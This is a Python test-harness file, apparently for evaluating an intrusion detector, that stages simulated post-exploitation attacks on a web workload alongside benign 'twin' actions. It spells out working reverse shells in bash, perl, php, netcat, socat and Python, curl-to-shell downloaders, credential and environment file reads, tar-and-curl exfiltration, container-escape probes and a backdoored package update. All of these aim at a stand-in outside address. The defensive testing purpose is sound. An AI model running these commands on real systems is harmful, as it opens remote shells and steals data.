# SPDX-License-Identifier: Apache-2.0
"""What an intruder does through a hole in a web application of the workload apt, as its user; its twins are a person who does the
same in a login of their own, or the application itself where tests have seen it do so.

All of it is harmless, and stays in the host's own network: its outside is an address that the host has itself.
"""

import contextlib
import subprocess
import sys
import time
import urllib.parse

from harness import ADDRESS, Attack
from fakehost import end_with_parent

OUTSIDE = "203.0.113.7"
PAYLOAD = "id >/dev/null\n"

PYTHON_SHELL = (f"import socket, os, pty\npid = os.fork()\nif not pid:\n s = socket.create_connection(('{OUTSIDE}', 4444), 5)\n "
                "[os.dup2(s.fileno(), n) for n in range(3)]\n os.execv('/bin/sh', ['sh'])\nos.waitpid(pid, 0)")
MEMFD = ("import os\nf = os.memfd_create('kworker')\nos.write(f, open('/usr/bin/id', 'rb').read())\npid = os.fork()\nif not pid:\n "
         "os.execv(f'/proc/self/fd/{f}', ['kworker'])\nos.waitpid(pid, 0)")
SCAN = f"import socket\nfor port in range(20, 90):\n s = socket.socket(); s.settimeout(0.05); s.connect_ex(('{ADDRESS}', port)); s.close()"
LISTENER = "import socket, threading, time\ns = socket.socket(); s.bind(('0.0.0.0', 9999)); s.listen(); threading.Timer(1, s.close).start()"
DNS = f"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor n in range(20): s.sendto(b'x' * 60, ('{OUTSIDE}', 5300))"
METADATA = "import socket\ns = socket.socket(); s.settimeout(0.3); s.connect_ex(('169.254.169.254', 80))"


@contextlib.contextmanager
def outside(host):
    """What waits outside: listeners that say two lines to whoever comes, and a server of files. Not in the host's cgroup."""
    (host.folder / "payload.sh").write_text(PAYLOAD)
    commands = [["sh", "-c", f"while :; do printf 'id\\nexit\\n' | nc -l -N {OUTSIDE} 4444; done"],
                [sys.executable, "-m", "http.server", "--bind", OUTSIDE, "--directory", str(host.folder), "8099"],
                ["sh", "-c", f"while :; do nc -l -N {OUTSIDE} 4445 </dev/null >/dev/null; done"]]
    running = [subprocess.Popen(host.network(*command), stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                preexec_fn=end_with_parent, start_new_session=True) for command in commands]
    try:
        time.sleep(0.3)
        yield
        time.sleep(0.3)
    finally:
        for process in running:
            subprocess.run(["kill", "--", f"-{process.pid}"], check=False, stderr=subprocess.DEVNULL)
            process.wait()


def visit(host, page):
    host.client("curl", "-s", "-m", "10", "-o", "/dev/null", "--interface", "198.51.100.66", f"http://{ADDRESS}:8000/{urllib.parse.quote(page)}",
                check=False)


class Through(Attack):
    """An attack that comes through the hole. `run` is a shell's command, `code` the application's own language."""

    workload = "apt"
    run = code = ""
    person = ""  # what a person does who is no intruder; empty: the application's own page is the twin

    def attack(self, host, rng):
        with outside(host):
            visit(host, f"run={self.run}" if self.run else f"eval={self.code}")

    def twin(self, host, rng):
        with outside(host):
            if self.person:
                host.login("alice", f"cd /tmp; {self.person}", check=False)
            else:
                visit(host, "status")


# name: what it runs, or its code; what a person does
RUNS = {
    "looking around": ("id; whoami; uname -a", ""),
    "network looked at": ("ss -tln; ip address; cat /etc/resolv.conf", "ss -tln; ip address; cat /etc/resolv.conf"),
    "bash reverse shell": (f"bash -c 'bash -i >& /dev/tcp/{OUTSIDE}/4444 0>&1'", f"bash -c 'exec 3<>/dev/tcp/{OUTSIDE}/4444; head -n 1 <&3'"),
    "perl reverse shell": (f"perl -MSocket -e 'socket(S,2,1,6);connect(S,sockaddr_in(4444,inet_aton(\"{OUTSIDE}\")));open(STDIN,\"<&S\");exec(\"/bin/sh\")'",
                           "perl -e 'print 1'"),
    "php reverse shell": (f"php -r '$s=fsockopen(\"{OUTSIDE}\",4444);shell_exec(fgets($s));'", "php -r 'echo 1;'"),
    "netcat reverse shell": (f"rm -f /tmp/f; mkfifo /tmp/f; sh -i </tmp/f 2>&1 | nc -w 2 {OUTSIDE} 4444 >/tmp/f", f"nc -w 1 -z {OUTSIDE} 4444"),
    "socat reverse shell": (f"timeout 3 socat TCP:{OUTSIDE}:4444 EXEC:/bin/sh", f"timeout 1 socat - TCP:{OUTSIDE}:4444 </dev/null"),
    "downloader": (f"curl -s http://{OUTSIDE}:8099/payload.sh | sh", f"curl -s http://{OUTSIDE}:8099/payload.sh | sh"),
    "downloader to a file": (f"cd /tmp; python3 -c \"import urllib.request as u; u.urlretrieve('http://{OUTSIDE}:8099/payload.sh', 'p.sh')\"; sh p.sh",
                             f"curl -s -o p.sh http://{OUTSIDE}:8099/payload.sh; sh p.sh"),
    "encoded script": ("echo aWQK | base64 -d | sh", "echo aWQK | base64 -d"),
    "crontab by a service": ("echo '* * * * * /tmp/x' | crontab -; crontab -r", "echo '0 0 1 1 * true' | crontab -; crontab -r"),
    "renamed tool": (f"cp /usr/bin/nc /var/tmp/kworker; /var/tmp/kworker -w 1 -z {OUTSIDE} 4444", "cp /usr/bin/ls ~/l; ~/l"),
    "miner": ("cp /usr/bin/yes /tmp/xmr; timeout 2 /tmp/xmr >/dev/null", "timeout 1 yes >/dev/null"),
    "hidden program": ("mkdir -p /tmp/.x; cp /usr/bin/id /tmp/.x/.systemd; /tmp/.x/.systemd", "mkdir -p ~/.bin; cp /usr/bin/id ~/.bin/; ~/.bin/id"),
    "credential files read": ("cat /etc/shadow /etc/passwd; find / -maxdepth 3 -name 'id_*'", "sudo cat /etc/shadow >/dev/null"),
    "environments read": ("cat /proc/*/environ", "cat /proc/self/environ"),
    "relay that listens": ("timeout 1 nc -lk 9998", "timeout 1 nc -l 127.0.0.1 9997"),
    "kernel module": ("insmod /tmp/x.ko; modprobe x", "/sbin/lsmod"),
    "container escape": ("nsenter -t 1 -m id; unshare -r id; mount", "unshare -r id; mount >/dev/null"),
    "docker socket": ("curl -s --unix-socket /var/run/docker.sock http://x/containers/json", "curl -s --unix-socket /var/run/docker.sock http://x/info"),
    "data staged and sent": (f"tar -cz /usr/lib/shop | curl -s -m 2 -T - http://{OUTSIDE}:4445/", "tar -czf ~/x.tgz /usr/lib/shop"),
    "stolen key": ("ssh -o BatchMode=yes -o StrictHostKeyChecking=no -i /tmp/key alice@127.0.0.1 id", "ssh -o BatchMode=yes -o StrictHostKeyChecking=no bob@127.0.0.1 id"),
    "preloaded library": ("cp /lib/x86_64-linux-gnu/libdl.so.2 /tmp/x.so; LD_PRELOAD=/tmp/x.so ls", "LD_PRELOAD=libdl.so.2 ls"),
    "dynamic loader": ("cp /usr/bin/id /tmp/data; /lib64/ld-linux-x86-64.so.2 /tmp/data", "/lib64/ld-linux-x86-64.so.2 /usr/bin/id"),
    "history cleared": ("rm -f ~/.bash_history; bash -c 'history -c'", "history -c"),
    "awk's shell": ("awk 'BEGIN { system(\"id\") }'", "awk 'BEGIN { system(\"id\") }'"),
    "find's shell": ("find /etc/hostname -exec sh -c id \\;", "find /etc/hostname -exec wc {} \\;"),
    "vim's shell": ("vim -es -c ':!id' -c ':q!'", "vim -es -c ':q!'"),
    "tar's checkpoint": ("tar -cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec=id", "tar -cf /dev/null /etc/hostname"),
    "sudo tried": ("sudo -n id; su -c id </dev/null", "sudo -n id"),
}
CODES = {
    "python reverse shell": (PYTHON_SHELL, f"python3 -c \"import socket; socket.create_connection(('{OUTSIDE}', 4444), 2)\""),
    "program in memory": (MEMFD, "cp /usr/bin/id ~/i; ~/i"),
    "port scan": (SCAN, f"for p in 22 80 443; do nc -w 1 -z {ADDRESS} $p; done"),
    "listener": (LISTENER, "timeout 1 python3 -m http.server --bind 127.0.0.1 9996"),
    "data in datagrams": (DNS, f"python3 -c \"{DNS.splitlines()[0]}\""),
    "metadata asked": (METADATA, "curl -s -m 0.3 http://169.254.169.254/"),
}

for kind, table in (("run", RUNS), ("code", CODES)):
    for title, (what, someone) in table.items():
        identifier = "".join(word.capitalize() for word in title.replace("'", "").split())
        globals()[identifier] = type(identifier, (Through,), {"name": title, "about": title, kind: what, "person": someone, "__module__": __name__})


class SupplyChain(Attack):
    name = "supply chain"
    about = "a version of the package that opens a shell to the outside once somebody visits it; the twin is a version without that"
    workload = "apt"

    def _upgrade(self, host, extra):
        workload = host.workload
        workload.extra = extra
        workload.publish(host)
        workload.timers(host)
        with outside(host):
            visit(host, "")

    def attack(self, host, rng):
        self._upgrade(host, f"subprocess.Popen(['/bin/sh', '-c', 'nc -w 2 {OUTSIDE} 4444 | sh'])")

    def twin(self, host, rng):
        self._upgrade(host, "self.wanted = path")
